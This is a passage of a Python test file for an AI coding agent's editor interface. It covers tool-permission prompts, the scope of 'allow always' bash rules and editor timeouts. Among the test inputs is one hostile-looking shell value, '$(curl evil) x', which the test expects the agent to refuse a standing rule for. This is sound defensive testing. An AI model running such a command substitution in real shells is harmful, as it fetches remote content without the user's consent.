        editor = Editor(answers=["allow-always", "allow-once"])
        readable = {"A3S_SANDBOX_READ": str(MCP_FIXTURE.parent)}  # the sandbox lets it read its script
        async with acp_agent(editor, workspace, fake, tmp_path / "data", env=readable) as conn:
            session_id = (await conn.new_session(cwd=str(workspace), mcp_servers=[fixture])).session_id
            reply = await conn.prompt(session_id=session_id, prompt=[text_block("Echo hi")])
    assert reply.stop_reason == "end_turn"
    assert "mcp__fixture__echo" in {tool["function"]["name"] for tool in fake.requests[0].tools or []}
    results = {m["tool_call_id"]: m["content"] for m in fake.requests[-1].messages if m["role"] == "tool"}
    assert "echo: hi" in str(results["echo"])
    assert editor.asked[0][1][1].name == "Always allow mcp__fixture__echo"
    images = [
        c.content for c in editor.call_updates("picture")[-1].content or [] if c.content.type == "image"
    ]
    assert images and images[0].mime_type == "image/png"


@pytest.mark.parametrize(
    ("tool", "arguments", "rule"),
    [
        ("edit_file", {"path": "a.py"}, "edit_file"),
        ("bash", {"command": "pytest -q tests"}, "bash(pytest:*)"),
        ("bash", {"command": "./run.sh --fast"}, "bash(./run.sh:*)"),
        ("bash", {"command": "FOO=1 make"}, None),  # an assignment first: nothing plain to allow
        ("bash", {"command": "$(curl evil) x"}, None),
        ("bash", {"command": "echo 'unclosed"}, None),
        ("bash", {"command": ""}, None),
        ("bash", {"command": "echo x > notes.txt"}, None),  # the rule would not cover the write
        ("bash", {"command": "make | tee build.log"}, None),
        ("bash", {"command": "case x in x) true;; esac"}, None),  # nor a command it cannot read
        ("bash", {"command": "make 2>&1 >/dev/null"}, "bash(make:*)"),
    ],
)
def test_allow_always_offers_a_rule_no_wider_than_the_command(
    tool: str, arguments: dict[str, str], rule: str | None
) -> None:
    assert always_rule(tool, arguments) == rule
    offered = [o.option_id for o in options(rule)]
    assert offered == (
        ["allow-once", "allow-always", "reject-once"] if rule else ["allow-once", "reject-once"]
    )


@pytest.mark.parametrize("path", sorted(Path(faces.__file__).parent.joinpath("acp").glob("*.py")), ids=str)
def test_the_acp_face_is_given_the_application_not_the_runtime(path: Path) -> None:
    """As coven's (tests/test_face_boundaries.py): the face converts to application calls."""
    source = path.read_text(encoding="utf-8")
    assert runtime_imports(source, path.name, ("a3s_agent", "faces", "acp")) == []
    assert runtime_reaches(source, path.name) == []


async def test_an_editor_that_never_answers_fails_the_call_in_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file request the editor never answers ends the tool call with a failure naming it, not a hang."""
    from a3s_agent.faces.acp import editor as routed
    from a3s_agent.tools.files import ReadFileArgs
    from a3s_agent.tools.registry import ToolContext, ToolFailure

    class SilentEditor:
        async def read_text_file(self, **_: Any) -> Any:
            await asyncio.Event().wait()

    monkeypatch.setattr(routed, "EDITOR_ANSWER_S", 0.2)
    (tmp_path / "a.txt").write_text("x\n")
    call = routed.read_file(
        routed.Editor(enabled=True),
        SilentEditor(),  # type: ignore[arg-type]
        "s",
        ReadFileArgs(path="a.txt"),
        ToolContext(workspace=tmp_path),
    )
    with pytest.raises(ToolFailure, match="did not answer fs/read_text_file within"):
        await asyncio.wait_for(call, 5)  # without the bound, TimeoutError after 5 s fails the test
